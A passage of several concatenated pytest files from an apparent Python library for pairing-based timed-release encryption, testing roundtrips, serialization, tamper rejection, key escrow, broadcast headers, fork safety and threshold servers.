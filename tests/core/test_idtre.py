"""Tests for ID-TRE (§5.2), including the inherent-escrow property."""

import pytest

from repro.core.idtre import IdentityTimedReleaseScheme, IDTRECiphertext
from repro.core.keys import ServerKeyPair
from repro.core.timeserver import PassiveTimeServer
from repro.errors import EncodingError, UpdateVerificationError

RELEASE = b"2027-06-01T00:00Z"
ALICE = b"alice@example.com"


@pytest.fixture(scope="module")
def scheme(group):
    return IdentityTimedReleaseScheme(group)


@pytest.fixture(scope="module")
def master(group, session_rng):
    return ServerKeyPair.generate(group, session_rng)


@pytest.fixture(scope="module")
def id_server(group, master):
    return PassiveTimeServer(group, keypair=master)


@pytest.fixture(scope="module")
def alice_key(scheme, master):
    return scheme.extract_user_key(master, ALICE)


class TestRoundtrip:
    def test_basic(self, scheme, id_server, master, alice_key, rng):
        ct = scheme.encrypt(b"press release", ALICE, master.public, RELEASE, rng)
        update = id_server.publish_update(RELEASE)
        assert scheme.decrypt(ct, alice_key, update, master.public) == b"press release"

    def test_no_receiver_certificate_needed(self, scheme, master, rng):
        # Encryption uses only the identity string and server key.
        ct = scheme.encrypt(b"m", b"someone-new@example.com", master.public, RELEASE, rng)
        assert isinstance(ct, IDTRECiphertext)

    def test_long_message(self, scheme, id_server, master, alice_key, rng):
        message = b"x" * 5000
        ct = scheme.encrypt(message, ALICE, master.public, RELEASE, rng)
        update = id_server.publish_update(RELEASE)
        assert scheme.decrypt(ct, alice_key, update) == message

    def test_serialization_roundtrip(self, scheme, group, master, rng):
        ct = scheme.encrypt(b"m", ALICE, master.public, RELEASE, rng)
        assert IDTRECiphertext.from_bytes(group, ct.to_bytes(group)) == ct

    def test_bad_blob_rejected(self, group):
        with pytest.raises(EncodingError):
            IDTRECiphertext.from_bytes(group, b"\x00\x00\x00\x00")


class TestAccessControl:
    def test_wrong_identity_key_fails(self, scheme, id_server, master, rng):
        ct = scheme.encrypt(b"for alice", ALICE, master.public, RELEASE, rng)
        bob = scheme.extract_user_key(master, b"bob@example.com")
        update = id_server.publish_update(RELEASE)
        assert scheme.decrypt(ct, bob, update) != b"for alice"

    def test_wrong_update_fails(self, scheme, id_server, master, alice_key, rng):
        ct = scheme.encrypt(b"m", ALICE, master.public, RELEASE, rng)
        other = id_server.publish_update(b"different-time")
        assert scheme.decrypt(ct, alice_key, other) != b"m"

    def test_label_mismatch_guard(self, scheme, id_server, master, alice_key, rng):
        ct = scheme.encrypt(b"m", ALICE, master.public, RELEASE, rng)
        other = id_server.publish_update(b"another")
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt(ct, alice_key, other, master.public)

    def test_key_plus_update_combination_required(
        self, scheme, group, id_server, master, alice_key, rng
    ):
        # Neither the identity key alone nor the update alone gives the
        # decryption point s(H1(ID)+H1(T)).
        ct = scheme.encrypt(b"m", ALICE, master.public, RELEASE, rng)
        update = id_server.publish_update(RELEASE)
        only_id = group.pair(ct.u_point, alice_key.point)
        only_t = group.pair(ct.u_point, update.point)
        from repro.encoding import xor_bytes

        for k in (only_id, only_t):
            mask = group.mask_bytes(k, len(ct.masked), tag="repro:H2")
            assert xor_bytes(ct.masked, mask) != b"m"


class TestInherentEscrow:
    def test_server_can_decrypt(self, scheme, master, rng):
        # The paper: "key escrow is inherent" in ID-TRE.
        ct = scheme.encrypt(b"not private from PKG", ALICE, master.public, RELEASE, rng)
        assert scheme.server_decrypt(ct, master, ALICE) == b"not private from PKG"

    def test_server_needs_identity_guess(self, scheme, master, rng):
        ct = scheme.encrypt(b"m", ALICE, master.public, RELEASE, rng)
        assert scheme.server_decrypt(ct, master, b"wrong-guess") != b"m"


class TestUpdateShared:
    def test_single_update_serves_tre_and_idtre(self, group, master, rng):
        """One broadcast works for both schemes run against the same
        server — the update format is scheme-agnostic."""
        from repro.core.keys import UserKeyPair
        from repro.core.tre import TimedReleaseScheme

        id_scheme = IdentityTimedReleaseScheme(group)
        tre_scheme = TimedReleaseScheme(group)
        server = PassiveTimeServer(group, keypair=master)
        user = UserKeyPair.generate(group, master.public, rng)
        alice = id_scheme.extract_user_key(master, ALICE)

        ct_id = id_scheme.encrypt(b"id-tre", ALICE, master.public, b"shared-T", rng)
        ct_tre = tre_scheme.encrypt(
            b"plain-tre", user.public, master.public, b"shared-T", rng
        )
        update = server.publish_update(b"shared-T")
        assert id_scheme.decrypt(ct_id, alice, update) == b"id-tre"
        assert tre_scheme.decrypt(ct_tre, user, update) == b"plain-tre"
