"""Property-based tests across the encryption schemes (hypothesis).

Each property runs a full encrypt/decrypt cycle on toy64, so example
counts are kept deliberately small; the properties target invariants
rather than coverage (the unit suites do that).
"""

from hypothesis import HealthCheck, given, settings, strategies as st

from repro.core.fujisaki_okamoto import FOTimedReleaseScheme
from repro.core.hybrid_tre import HybridTimedReleaseScheme
from repro.core.keys import UserKeyPair
from repro.core.policylock import PolicyLockScheme
from repro.core.tre import TimedReleaseScheme
from repro.crypto.rng import seeded_rng

scheme_settings = settings(
    max_examples=8,
    deadline=None,
    suppress_health_check=[
        HealthCheck.too_slow,
        HealthCheck.function_scoped_fixture,
    ],
)

messages = st.binary(max_size=100)
labels = st.binary(min_size=1, max_size=24)
seeds = st.integers(0, 2**32 - 1)


@scheme_settings
@given(message=messages, label=labels, seed=seeds)
def test_fo_roundtrip_property(group, server, user, message, label, seed):
    rng = seeded_rng(seed)
    scheme = FOTimedReleaseScheme(group)
    ct = scheme.encrypt(
        message, user.public, server.public_key, label, rng,
        verify_receiver_key=False,
    )
    update = server.publish_update(label)
    assert scheme.decrypt(ct, user, update, server.public_key) == message


@scheme_settings
@given(message=messages, label=labels, seed=seeds)
def test_hybrid_roundtrip_property(group, server, user, message, label, seed):
    rng = seeded_rng(seed)
    scheme = HybridTimedReleaseScheme(group)
    ct = scheme.encrypt(
        message, user.public, server.public_key, label, rng,
        verify_receiver_key=False,
    )
    update = server.publish_update(label)
    assert scheme.decrypt(ct, user, update) == message


@scheme_settings
@given(seed=seeds, label=labels)
def test_kem_shared_secret_agreement(group, server, user, seed, label):
    rng = seeded_rng(seed)
    scheme = TimedReleaseScheme(group)
    key, u_point = scheme.encapsulate(
        user.public, server.public_key, label, rng, verify_receiver_key=False
    )
    update = server.publish_update(label)
    assert scheme.decapsulate(u_point, user, update) == key


@scheme_settings
@given(
    message=messages,
    conditions=st.lists(
        st.binary(min_size=1, max_size=12), min_size=1, max_size=3, unique=True
    ),
    seed=seeds,
)
def test_policy_conjunction_property(group, server, user, message, conditions,
                                     seed):
    rng = seeded_rng(seed)
    scheme = PolicyLockScheme(group)
    ct = scheme.encrypt_all(
        message, user.public, server.public_key, conditions, rng,
        verify_receiver_key=False,
    )
    attestations = [server.publish_update(c) for c in conditions]
    assert scheme.decrypt_all(ct, user, attestations) == message


@scheme_settings
@given(seed=seeds, label=labels)
def test_different_receivers_different_masks(group, server, seed, label):
    """Two receivers' pairing-derived keys for the same (r, T) message
    never coincide — ciphertexts are receiver-specific."""
    rng = seeded_rng(seed)
    scheme = TimedReleaseScheme(group)
    u1 = UserKeyPair.generate(group, server.public_key, rng)
    u2 = UserKeyPair.generate(group, server.public_key, rng)
    message = bytes(32)
    ct = scheme.encrypt(
        message, u1.public, server.public_key, label, rng,
        verify_receiver_key=False,
    )
    update = server.publish_update(label)
    assert scheme.decrypt(ct, u1, update) == message
    assert scheme.decrypt(ct, u2, update) != message


@scheme_settings
@given(seed=seeds)
def test_update_binds_to_exact_label(group, server, seed):
    """Any single-byte perturbation of the time label yields an update
    useless for the original ciphertext."""
    rng = seeded_rng(seed)
    scheme = TimedReleaseScheme(group)
    user = UserKeyPair.generate(group, server.public_key, rng)
    label = b"exact-label"
    message = b"bound to label"
    ct = scheme.encrypt(
        message, user.public, server.public_key, label, rng,
        verify_receiver_key=False,
    )
    perturbed = bytearray(label)
    perturbed[seed % len(label)] ^= 1 + (seed % 255)
    wrong = server.publish_update(bytes(perturbed))
    if bytes(perturbed) != label:
        assert scheme.decrypt(ct, user, wrong) != message
