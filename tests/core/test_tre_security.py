"""Security-model tests for TRE: the §5.1 proof sketch, operationally.

Each numbered claim in the paper's security discussion becomes a test:
decryption must fail without the right update, without the private key,
for other users, and for the (non-colluding) server itself.
"""

import pytest

from repro.core.keys import UserKeyPair
from repro.core.timeserver import PassiveTimeServer, TimeBoundKeyUpdate
from repro.core.tre import H2_TAG, TimedReleaseScheme
from repro.encoding import xor_bytes

RELEASE = b"2028-01-01T00:00Z"
MESSAGE = b"the secret plans (32 bytes long)"


@pytest.fixture(scope="module")
def scheme(group):
    return TimedReleaseScheme(group)


@pytest.fixture(scope="module")
def ciphertext(scheme, server, user, session_rng):
    return scheme.encrypt(
        MESSAGE, user.public, server.public_key, RELEASE, session_rng
    )


class TestTimeLocking:
    """Claim 5: without I_T, the receiver cannot decrypt — even with a."""

    def test_no_update_no_plaintext(self, scheme, group, server, user, ciphertext):
        # The receiver tries every *other* published update it can find.
        for label in (b"early-1", b"early-2", b"early-3"):
            update = server.publish_update(label)
            assert scheme.decrypt(ciphertext, user, update) != MESSAGE

    def test_update_for_adjacent_times_useless(self, scheme, server, user, ciphertext):
        # Claim 4: s·H1(T') for T' != T gives nothing about s·H1(T).
        near_misses = [RELEASE + b" ", b" " + RELEASE, RELEASE[:-1], RELEASE.lower()]
        for label in near_misses:
            update = server.publish_update(label)
            assert scheme.decrypt(ciphertext, user, update) != MESSAGE

    def test_correct_update_opens(self, scheme, server, user, ciphertext):
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ciphertext, user, update) == MESSAGE

    def test_forged_update_point_useless(self, scheme, group, server, user,
                                         ciphertext, rng):
        for _ in range(5):
            forged = TimeBoundKeyUpdate(RELEASE, group.random_point(rng))
            assert scheme.decrypt(ciphertext, user, forged) != MESSAGE


class TestPrivateKeyRequired:
    """The update alone is public — it must not decrypt anything."""

    def test_wrong_private_key(self, scheme, group, server, user, ciphertext, rng):
        update = server.publish_update(RELEASE)
        for _ in range(5):
            other = UserKeyPair.generate(group, server.public_key, rng)
            assert other.private != user.private
            assert scheme.decrypt(ciphertext, other, update) != MESSAGE

    def test_unit_private_key(self, scheme, server, ciphertext):
        # A "receiver" with a = 1 is just anyone holding public data.
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(ciphertext, 1, update) != MESSAGE


class TestServerCannotDecrypt:
    """§3: 'even the trusted authority or time server should not be able
    to decrypt a message sent to any users' — unlike ID-TRE."""

    def test_server_with_its_own_secret_fails(
        self, scheme, group, server, user, ciphertext
    ):
        # The server knows s and every update; without `a` the best it
        # can do is treat s (or any function of it) as a private key.
        update = server.publish_update(RELEASE)
        server_secret = server._keypair.private
        assert scheme.decrypt(ciphertext, server_secret, update) != MESSAGE

    def test_server_view_contains_no_user_data(self, group, rng):
        # Operational anonymity: a fresh server that has served a whole
        # conversation holds only its keypair and the label archive.
        server = PassiveTimeServer(group, rng=rng)
        scheme = TimedReleaseScheme(group)
        user = UserKeyPair.generate(group, server.public_key, rng)
        scheme.encrypt(b"m", user.public, server.public_key, b"t", rng)
        server.publish_update(b"t")
        assert server.archive_labels() == [b"t"]
        # No attribute of the server references the user or message.
        assert not any(
            "user" in attr or "message" in attr for attr in vars(server)
        )


class TestCollusionBoundary:
    """With the server's cooperation (issue_update early) the lock opens
    — the paper's explicitly stated trust assumption, shown as the exact
    boundary of the guarantee."""

    def test_colluding_server_breaks_lock(self, scheme, group, user, rng):
        server = PassiveTimeServer(group, rng=rng, clock=lambda: 0)
        ct = scheme.encrypt(
            MESSAGE, user.rekey_to_server(group, server.public_key).public,
            server.public_key, RELEASE, rng,
        )
        early = server.issue_update(RELEASE)  # corrupt: before release
        rekeyed = user.rekey_to_server(group, server.public_key)
        assert scheme.decrypt(ct, rekeyed, early) == MESSAGE


class TestMalleabilityDocumented:
    """The base scheme is CPA only: XOR malleability exists (and is what
    the FO/REACT transforms remove).  Pin the behaviour so a silent
    upgrade doesn't invalidate the benchmarks' CPA/CCA comparison."""

    def test_xor_malleability(self, scheme, group, server, user, rng):
        import dataclasses

        ct = scheme.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        flip = bytes([1] + [0] * (len(MESSAGE) - 1))
        mauled = dataclasses.replace(ct, masked=xor_bytes(ct.masked, flip))
        update = server.publish_update(RELEASE)
        assert scheme.decrypt(mauled, user, update) == xor_bytes(MESSAGE, flip)


class TestH2Independence:
    def test_mask_tag_domain_separated(self, scheme, group, server, user, rng):
        # The same pairing value under a different H2 tag yields a
        # different mask — ciphertexts cannot be cross-decrypted between
        # schemes sharing the group.
        key, u_point = scheme.encapsulate(
            user.public, server.public_key, RELEASE, rng
        )
        update = server.publish_update(RELEASE)
        k = group.pair(u_point, update.point) ** user.private
        assert group.mask_bytes(k, 32, tag=H2_TAG) == scheme.decapsulate(
            u_point, user, update
        )
        assert group.mask_bytes(k, 32, tag="repro:other") != key
