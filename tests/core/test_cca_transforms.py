"""Tests for the FO and REACT chosen-ciphertext transforms."""

import dataclasses

import pytest

from repro.core.fujisaki_okamoto import FOTimedReleaseScheme, FOTRECiphertext
from repro.core.react import ReactTimedReleaseScheme, ReactTRECiphertext
from repro.core.keys import UserKeyPair, UserPublicKey
from repro.errors import (
    DecryptionError,
    EncodingError,
    KeyValidationError,
    UpdateVerificationError,
)

RELEASE = b"2029-09-09T09:09Z"
MESSAGE = b"tamper with me if you can"


@pytest.fixture(scope="module")
def fo(group):
    return FOTimedReleaseScheme(group)


@pytest.fixture(scope="module")
def react(group):
    return ReactTimedReleaseScheme(group)


class TestFORoundtrip:
    def test_basic(self, fo, server, user, rng):
        ct = fo.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert fo.decrypt(ct, user, update, server.public_key) == MESSAGE

    def test_empty_message(self, fo, server, user, rng):
        ct = fo.encrypt(b"", user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert fo.decrypt(ct, user, update, server.public_key) == b""

    def test_serialization(self, fo, group, server, user, rng):
        ct = fo.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        assert FOTRECiphertext.from_bytes(group, ct.to_bytes(group)) == ct

    def test_malformed_receiver_key_rejected(self, fo, group, server, rng):
        forged = UserPublicKey(group.random_point(rng), group.random_point(rng))
        with pytest.raises(KeyValidationError):
            fo.encrypt(b"m", forged, server.public_key, RELEASE, rng)


class TestFORejectsTampering:
    @pytest.fixture()
    def pieces(self, fo, server, user, rng):
        ct = fo.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        return ct, update

    def test_flipped_message_bits(self, fo, user, server, pieces):
        ct, update = pieces
        mauled = dataclasses.replace(
            ct, message_masked=bytes(b ^ 1 for b in ct.message_masked)
        )
        with pytest.raises(DecryptionError):
            fo.decrypt(mauled, user, update, server.public_key)

    def test_flipped_sigma_bits(self, fo, user, server, pieces):
        ct, update = pieces
        mauled = dataclasses.replace(
            ct, sigma_masked=bytes(b ^ 0x80 for b in ct.sigma_masked)
        )
        with pytest.raises(DecryptionError):
            fo.decrypt(mauled, user, update, server.public_key)

    def test_replaced_u_point(self, fo, group, user, server, pieces, rng):
        ct, update = pieces
        mauled = dataclasses.replace(ct, u_point=group.random_point(rng))
        with pytest.raises(DecryptionError):
            fo.decrypt(mauled, user, update, server.public_key)

    def test_truncated_sigma(self, fo, user, server, pieces):
        ct, update = pieces
        mauled = dataclasses.replace(ct, sigma_masked=ct.sigma_masked[:-1])
        with pytest.raises(DecryptionError):
            fo.decrypt(mauled, user, update, server.public_key)

    def test_wrong_update_label(self, fo, user, server, pieces):
        ct, _ = pieces
        other = server.publish_update(b"not-the-release")
        with pytest.raises(UpdateVerificationError):
            fo.decrypt(ct, user, other, server.public_key)

    def test_wrong_receiver_gets_error_not_garbage(
        self, fo, group, server, pieces, rng
    ):
        ct, update = pieces
        other = UserKeyPair.generate(group, server.public_key, rng)
        with pytest.raises(DecryptionError):
            fo.decrypt(ct, other, update, server.public_key)


class TestReactRoundtrip:
    def test_basic(self, react, server, user, rng):
        ct = react.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        assert react.decrypt(ct, user, update, server.public_key) == MESSAGE

    def test_serialization(self, react, group, server, user, rng):
        ct = react.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        restored = ReactTRECiphertext.from_bytes(group, ct.to_bytes(group))
        assert restored == ct

    def test_bad_blob(self, group):
        with pytest.raises(EncodingError):
            ReactTRECiphertext.from_bytes(group, b"\x00\x00\x00\x01\x00\x00\x00\x00")

    def test_time_label_exposed(self, react, server, user, rng):
        ct = react.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        assert ct.time_label == RELEASE


class TestReactRejectsTampering:
    @pytest.fixture()
    def pieces(self, react, server, user, rng):
        ct = react.encrypt(MESSAGE, user.public, server.public_key, RELEASE, rng)
        update = server.publish_update(RELEASE)
        return ct, update

    def test_flipped_payload(self, react, user, server, pieces):
        ct, update = pieces
        mauled = dataclasses.replace(ct, c2=bytes(b ^ 1 for b in ct.c2))
        with pytest.raises(DecryptionError):
            react.decrypt(mauled, user, update, server.public_key)

    def test_flipped_checksum(self, react, user, server, pieces):
        ct, update = pieces
        mauled = dataclasses.replace(ct, c3=bytes(b ^ 1 for b in ct.c3))
        with pytest.raises(DecryptionError):
            react.decrypt(mauled, user, update, server.public_key)

    def test_swapped_asymmetric_part(self, react, server, user, rng, pieces):
        ct, update = pieces
        other = react.encrypt(b"other", user.public, server.public_key, RELEASE, rng)
        frankenstein = dataclasses.replace(ct, c1=other.c1)
        with pytest.raises(DecryptionError):
            react.decrypt(frankenstein, user, update, server.public_key)


class TestTransformsInteroperability:
    def test_same_update_serves_all_three_schemes(self, fo, react, group,
                                                  server, user, rng):
        from repro.core.tre import TimedReleaseScheme

        plain = TimedReleaseScheme(group)
        label = b"one-update-three-schemes"
        c_plain = plain.encrypt(b"p", user.public, server.public_key, label, rng)
        c_fo = fo.encrypt(b"f", user.public, server.public_key, label, rng)
        c_react = react.encrypt(b"r", user.public, server.public_key, label, rng)
        update = server.publish_update(label)
        assert plain.decrypt(c_plain, user, update) == b"p"
        assert fo.decrypt(c_fo, user, update, server.public_key) == b"f"
        assert react.decrypt(c_react, user, update, server.public_key) == b"r"
