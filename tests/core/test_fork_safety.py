"""Runtime fork-safety of the parallel batch engine.

The static analyzer (RP301/RP302/RP304) proves the *absence* of
fork-hazard patterns; these tests check the positive runtime claims:
forked workers never replay each other's randomness, the at-fork guards
actually fire in children, and sharding a batch leaves the parent
process's ``PairingGroup`` caches untouched byte-for-byte.
"""

from __future__ import annotations

import multiprocessing
import os

import pytest

from repro import parallel
from repro.core.timeserver import PassiveTimeServer, verify_archive
from repro.core.tre import TimedReleaseScheme
from repro.crypto.rng import fork_generation, process_rng
from repro.errors import ParameterError

pytestmark = pytest.mark.skipif(
    "fork" not in multiprocessing.get_all_start_methods(),
    reason="fork start method not available on this platform",
)


def _task_nonce(group, setup, chunk):
    """Report (pid, fork generation, fresh nonce) once per payload."""
    rng = process_rng()
    pid = os.getpid()
    generation = fork_generation()
    return [
        pid.to_bytes(8, "big")
        + generation.to_bytes(2, "big")
        + rng.getrandbits(64).to_bytes(8, "big")
        for _ in chunk
    ]


try:
    parallel.register_task("selftest.nonce")(_task_nonce)
except ParameterError:  # already registered by a previous collection
    pass


def _records(blobs):
    return [
        (
            int.from_bytes(blob[:8], "big"),
            int.from_bytes(blob[8:10], "big"),
            blob[10:],
        )
        for blob in blobs
    ]


class TestForkedRandomness:
    def test_workers_draw_distinct_nonces(self, group):
        out = parallel.parallel_map(
            "selftest.nonce",
            group,
            b"",
            [b""] * 8,
            workers=2,
            chunk_size=1,
            start_method="fork",
        )
        records = _records(out)
        nonces = {nonce for _, _, nonce in records}
        assert len(nonces) == len(records)  # no replayed stream anywhere
        parent = os.getpid()
        assert all(pid != parent for pid, _, _ in records)
        worker_pids = {pid for pid, _, _ in records}
        assert len(worker_pids) >= 2  # the batch really was sharded

    def test_at_fork_guard_fires_in_children_not_parent(self, group):
        process_rng()  # populate the parent cache before forking
        out = parallel.parallel_map(
            "selftest.nonce",
            group,
            b"",
            [b""] * 4,
            workers=2,
            chunk_size=1,
            start_method="fork",
        )
        assert all(generation >= 1 for _, generation, _ in _records(out))
        assert fork_generation() == 0  # the hook never runs in the parent


def _cache_snapshot(group):
    """The parent group's precomputation caches, serialized for diffing."""
    fixed = sorted(
        (group.point_to_bytes(point), table.width, table.bits)
        for point, table in group._fixed_base.items()
    )
    pairing = sorted(
        (group.point_to_bytes(point), len(precomp.lines or ()))
        for point, precomp in group._pairing_precomp.items()
    )
    return fixed, pairing


class TestParentCachesSurviveSharding:
    @pytest.fixture(scope="class")
    def batch(self, group, session_rng):
        server = PassiveTimeServer(group, rng=session_rng)
        scheme = TimedReleaseScheme(group)
        user = scheme.generate_user_keypair(server.public_key, session_rng)
        label = b"fork-safety-T"
        update = server.issue_update(label)
        messages = [f"fork-safety message {i}".encode() for i in range(6)]
        ciphertexts = [
            scheme.encrypt(
                message, user.public, server.public_key, label, session_rng,
                verify_receiver_key=False,
            )
            for message in messages
        ]
        return server, scheme, user, update, messages, ciphertexts

    def test_decrypt_batch_leaves_parent_caches_byte_identical(self, group, batch):
        _, scheme, user, update, messages, ciphertexts = batch
        group.precompute(group.generator)
        group.precompute_pairing(update.point)
        probe = group.pair(update.point, group.generator).to_bytes()
        before = _cache_snapshot(group)

        assert (
            scheme.decrypt_batch(ciphertexts, user, update, workers=2)
            == messages
        )

        assert _cache_snapshot(group) == before
        assert group.pair(update.point, group.generator).to_bytes() == probe

    def test_verify_archive_leaves_parent_caches_byte_identical(
        self, group, batch
    ):
        server, _, _, _, _, _ = batch
        updates = [
            server.publish_update(f"fork-archive-{i}".encode()) for i in range(6)
        ]
        # The sequential pass warms the parent-side BLS precomputation.
        assert verify_archive(group, server.public_key, updates) == []
        before = _cache_snapshot(group)

        assert (
            verify_archive(group, server.public_key, updates, workers=2) == []
        )
        assert _cache_snapshot(group) == before
