"""Broadcast TRE: one U and one payload, N per-recipient KEM headers.

The sender-facing contract is the same as single-recipient TRE —
server-passive, time-gated — plus two broadcast-specific guarantees the
tests pin down: a receiver can only open *their own* header (AEAD tag
failure on any other slot, never silent garbage), and the wire format
round-trips with a variable recipient count.
"""

import random

import pytest

from repro.core.broadcast import BroadcastCiphertext, BroadcastTimedReleaseScheme
from repro.core.keys import ServerKeyPair, UserKeyPair
from repro.core.timeserver import PassiveTimeServer
from repro.encoding import pack_chunks
from repro.errors import (
    DecryptionError,
    EncodingError,
    ParameterError,
    UpdateVerificationError,
)

LABEL = b"broadcast-release-T"
MESSAGE = b"one payload, many recipients" * 3


@pytest.fixture()
def setup(group):
    rng = random.Random(0xB40ADCA57)
    server = ServerKeyPair.generate(group, rng)
    users = [UserKeyPair.generate(group, server.public, rng) for _ in range(3)]
    ts = PassiveTimeServer(group, keypair=server)
    scheme = BroadcastTimedReleaseScheme(group)
    return scheme, server, users, ts


class TestRoundtrip:
    def test_every_recipient_decrypts_own_header(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(1),
        )
        update = ts.issue_update(LABEL)
        for i, user in enumerate(users):
            assert scheme.decrypt_broadcast(ct, i, user, update) == MESSAGE

    def test_decrypt_with_update_verification(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(2),
        )
        update = ts.issue_update(LABEL)
        assert (
            scheme.decrypt_broadcast(ct, 0, users[0], update, server.public) == MESSAGE
        )

    def test_single_recipient_broadcast(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(3)
        )
        assert ct.recipients == 1
        assert scheme.decrypt_broadcast(ct, 0, users[0], ts.issue_update(LABEL)) == MESSAGE

    def test_empty_receivers_rejected(self, setup):
        scheme, server, _, _ = setup
        with pytest.raises(ParameterError):
            scheme.encrypt_broadcast(
                MESSAGE, [], server.public, LABEL, random.Random(4)
            )


class TestCrossRecipientRejection:
    def test_receiver_cannot_open_other_header(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(5),
        )
        update = ts.issue_update(LABEL)
        for i, user in enumerate(users):
            for j in range(len(users)):
                if j == i:
                    continue
                with pytest.raises(DecryptionError):
                    scheme.open_header(ct, j, user, update)

    def test_outsider_cannot_open_any_header(self, setup, rng):
        scheme, server, users, ts = setup
        outsider = UserKeyPair.generate(
            scheme.group, server.public, random.Random(0x0075)
        )
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(6),
        )
        update = ts.issue_update(LABEL)
        for j in range(len(users)):
            with pytest.raises(DecryptionError):
                scheme.open_header(ct, j, outsider, update)

    def test_header_index_out_of_range(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(7)
        )
        update = ts.issue_update(LABEL)
        for bad in (-1, 1, 99):
            with pytest.raises(ParameterError):
                scheme.open_header(ct, bad, users[0], update)

    def test_wrong_time_label_rejected(self, setup):
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(8)
        )
        with pytest.raises(UpdateVerificationError):
            scheme.decrypt_broadcast(ct, 0, users[0], ts.issue_update(b"other-T"))

    def test_early_update_does_not_open(self, setup):
        # An update for a different time is the time-gate: no valid
        # update for T, no DEM key.
        scheme, server, users, ts = setup
        ct = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(9)
        )
        early = ts.issue_update(b"earlier-epoch")
        with pytest.raises(DecryptionError):
            scheme.open_header(ct, 0, users[0], early)


class TestSerialization:
    def test_roundtrip(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(10),
        )
        decoded = BroadcastCiphertext.from_bytes(group, ct.to_bytes(group))
        assert decoded == ct
        assert decoded.recipients == len(users)

    def test_decoded_ciphertext_decrypts(self, setup):
        scheme, server, users, ts = setup
        group = scheme.group
        ct = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(11),
        )
        decoded = BroadcastCiphertext.from_bytes(group, ct.to_bytes(group))
        update = ts.issue_update(LABEL)
        assert scheme.decrypt_broadcast(decoded, 1, users[1], update) == MESSAGE

    def test_too_few_chunks_rejected(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        ct = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(12)
        )
        short = pack_chunks(
            group.point_to_bytes(ct.u_point), ct.time_label, ct.sealed
        )
        with pytest.raises(EncodingError):
            BroadcastCiphertext.from_bytes(group, short)

    def test_size_grows_per_header_not_per_payload(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        ct1 = scheme.encrypt_broadcast(
            MESSAGE, [users[0].public], server.public, LABEL, random.Random(13)
        )
        ct3 = scheme.encrypt_broadcast(
            MESSAGE, [u.public for u in users], server.public, LABEL,
            random.Random(13),
        )
        growth = ct3.size_bytes(group) - ct1.size_bytes(group)
        # Two extra headers, each far smaller than a full ciphertext copy.
        assert growth < 2 * len(ct1.headers[0]) + 32
        assert growth > 0


class TestDeterminismAndFastPath:
    def test_seeded_rng_is_reproducible(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        pubs = [u.public for u in users]
        a = scheme.encrypt_broadcast(
            MESSAGE, pubs, server.public, LABEL, random.Random(14)
        )
        b = scheme.encrypt_broadcast(
            MESSAGE, pubs, server.public, LABEL, random.Random(14)
        )
        assert a.to_bytes(group) == b.to_bytes(group)

    def test_warm_broadcast_byte_identical_to_cold(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        pubs = [u.public for u in users]
        cold = scheme.encrypt_broadcast(
            MESSAGE, pubs, server.public, LABEL, random.Random(15),
            verify_receiver_keys=False,
        )
        scheme.precompute_sender(pubs, server.public, time_labels=[LABEL])
        warm = scheme.encrypt_broadcast(
            MESSAGE, pubs, server.public, LABEL, random.Random(15),
            verify_receiver_keys=False,
        )
        assert warm.to_bytes(group) == cold.to_bytes(group)

    def test_warm_broadcast_runs_no_pairings(self, setup):
        scheme, server, users, _ = setup
        group = scheme.group
        pubs = [u.public for u in users]
        scheme.precompute_sender(pubs, server.public, time_labels=[LABEL])
        with group.counters.measure() as ops:
            scheme.encrypt_broadcast(
                MESSAGE, pubs, server.public, LABEL, random.Random(16),
                verify_receiver_keys=False,
            )
        assert "pairing" not in ops
        assert "hash_to_group" not in ops
        assert ops.get("gt_fixed_base") == len(users)
