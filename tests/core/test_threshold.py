"""Tests for the k-of-N threshold time server."""

import itertools

import pytest

from repro.core.threshold import (
    ThresholdTimeServer,
    UpdateShare,
    lagrange_coefficient_at_zero,
)
from repro.core.keys import UserKeyPair
from repro.core.tre import TimedReleaseScheme
from repro.errors import ParameterError, UpdateVerificationError

LABEL = b"2032-02-02T02:02Z"


@pytest.fixture(scope="module")
def threshold_world(group, session_rng):
    coordinator, members = ThresholdTimeServer.setup(
        group, members=5, threshold=3, rng=session_rng
    )
    return coordinator, members


class TestLagrange:
    def test_interpolates_constant_term(self, group):
        # f(x) = 7 + 3x + 5x^2 over Z_q, shares at x=1..5.
        q = group.q
        coeffs = [7, 3, 5]
        shares = {
